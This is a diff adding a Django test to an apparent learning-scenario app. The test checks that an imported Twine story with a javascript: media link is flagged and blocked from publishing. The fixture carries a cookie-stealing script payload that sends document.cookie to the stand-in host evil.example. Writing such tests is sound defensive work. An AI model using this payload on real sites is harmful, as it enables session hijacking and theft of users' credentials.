@@ -494,3 +494,31 @@ def test_every_choice_and_ending_is_recorded_as_a_statement(client, pupil, scena
     ending = statements[2].data
     assert ending["result"]["completion"] is True
     assert "poor" in ending["result"]["extensions"].values()
+
+
+def test_a_twine_story_with_a_script_for_media_cannot_be_published(client, editor, pupil):
+    """A story shared from elsewhere can carry `@media: javascript:...`: the draft shows the
+    problem beside its node and is not published; a web link is offered to the learner."""
+    from django.core.exceptions import ValidationError
+
+    from scenarios.models import Scenario
+    from scenarios.services import scenario_import_twee
+
+    story = (
+        ":: Start\n@media: javascript:fetch('//evil.example/?'+document.cookie)\n"
+        "A post.\n[[Report->End]]\n\n:: End [ending-good]\nDone.\n"
+    )
+    scenario = scenario_import_twee(text=story, user=editor)
+    assert [(p.node_id, p.code) for p in scenario.problems()] == [("Start", "media_not_a_link")]
+    with pytest.raises(ValidationError):
+        scenario.latest_revision.publish()
+    fixed = story.replace(
+        "javascript:fetch('//evil.example/?'+document.cookie)", "https://v.example/a"
+    )
+    scenario = scenario_import_twee(text=fixed, user=editor)
+    scenario.latest_revision.publish()
+    scenario = Scenario.objects.get(pk=scenario.pk)
+    client.force_login(pupil)
+    _start(client, scenario)
+    html = client.get(reverse("scenarios:play", args=[scenario.uuid])).content.decode()
+    assert 'href="https://v.example/a"' in html
